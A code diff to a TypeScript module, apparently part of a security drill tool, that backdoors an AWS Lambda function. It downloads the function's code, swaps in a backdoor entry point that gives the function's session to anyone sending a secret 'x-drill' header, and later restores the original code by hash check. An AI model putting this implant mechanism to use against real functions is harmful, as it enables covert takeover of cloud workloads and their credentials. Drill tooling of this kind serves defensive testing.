@@ -1,46 +1,61 @@
 import { randomBytes } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { GetFunctionCommand, type LambdaClient, UpdateFunctionCodeCommand, waitUntilFunctionUpdatedV2 } from '@aws-sdk/client-lambda';
+import {
+  GetFunctionCommand,
+  GetFunctionConfigurationCommand,
+  type LambdaClient,
+  UpdateFunctionCodeCommand,
+  waitUntilFunctionUpdatedV2,
+} from '@aws-sdk/client-lambda';
 import { CordonError } from './engine/errors.ts';
 import { zipOf } from './engine/zip.ts';
+import type { Afterwards } from './taking-back.ts';
 import { unzip } from './unzip.ts';
 
 /** The code of the attacker, opened by this word. */
 const backdoor = (word: string): Buffer =>
   Buffer.from(readFileSync(join(import.meta.dirname, 'backdoor.mjs'), 'utf8').replace('{word}', word));
 
-/** A function with a backdoor in it. */
-export interface Implant {
-  /** The header that opens it. Its word is new every time: nobody else can use what a drill leaves open. */
-  readonly headers: Readonly<Record<string, string>>;
-  /** Puts back exactly the code that was there. */
-  remove(): Promise<void>;
-}
-
-const downloaded = async (FunctionName: string, lambda: LambdaClient): Promise<Buffer> => {
-  const { Code } = await lambda.send(new GetFunctionCommand({ FunctionName }));
-  const answer = await fetch(Code?.Location ?? '');
+/** The deployed code, and the hash by which Lambda knows it. */
+const deployed = async (FunctionName: string, lambda: LambdaClient): Promise<{ clean: Buffer; sha256: string | undefined }> => {
+  const { Code, Configuration } = await lambda.send(new GetFunctionCommand({ FunctionName }));
+  const answer = await fetch(Code?.Location ?? '', { signal: AbortSignal.timeout(60_000) });
   if (!answer.ok) throw new CordonError(`the code of ${FunctionName} could not be downloaded: HTTP ${answer.status}`);
-  return Buffer.from(await answer.arrayBuffer());
+  return { clean: Buffer.from(await answer.arrayBuffer()), sha256: Configuration?.CodeSha256 };
 };
 
-/** Rewrites a function so that it still works, and hands out its session to whoever knows the word. */
-export const implant = async (FunctionName: string, lambda: LambdaClient): Promise<Implant> => {
-  const clean = await downloaded(FunctionName, lambda);
+interface Tools {
+  readonly lambda: LambdaClient;
+  readonly afterwards: Afterwards;
+}
+
+/**
+ * Rewrites a function so that it still works, and hands out its session to whoever sends the headers that are given back.
+ * Their word is new every time: nobody else can use what a drill leaves open. Afterwards exactly the code that was there is put back.
+ */
+export const implant = async (FunctionName: string, { lambda, afterwards }: Tools): Promise<Readonly<Record<string, string>>> => {
+  const { clean, sha256 } = await deployed(FunctionName, lambda);
   const files = unzip(clean);
   if (files.some(({ name }) => name === 'original.mjs'))
-    throw new CordonError(`${FunctionName} still has the backdoor of a drill that was killed: deploy the application again, then drill`);
-  const word = randomBytes(24).toString('hex');
+    throw new CordonError(
+      `${FunctionName} still has the backdoor of a drill that was killed: put its own code back, then drill (on this machine cordon down, then cordon up; on AWS aws lambda update-function-code with the S3Bucket and S3Key of its template)`,
+    );
   const update = async (ZipFile: Uint8Array): Promise<void> => {
+    await waitUntilFunctionUpdatedV2({ client: lambda, maxWaitTime: 60, minDelay: 1 }, { FunctionName });
     await lambda.send(new UpdateFunctionCodeCommand({ FunctionName, ZipFile }));
     await waitUntilFunctionUpdatedV2({ client: lambda, maxWaitTime: 60, minDelay: 1 }, { FunctionName });
   };
+  afterwards(`the code of ${FunctionName}`, async () => {
+    const { CodeSha256 } = await lambda.send(new GetFunctionConfigurationCommand({ FunctionName }));
+    if (CodeSha256 !== sha256) await update(clean);
+  });
+  const word = randomBytes(24).toString('hex');
   await update(
     zipOf([
       ...files.map(({ name, data }) => ({ name: name === 'index.mjs' ? 'original.mjs' : name, data })),
       { name: 'index.mjs', data: backdoor(word) },
     ]),
   );
-  return { headers: { 'x-drill': word }, remove: () => update(clean) };
+  return { 'x-drill': word };
 };
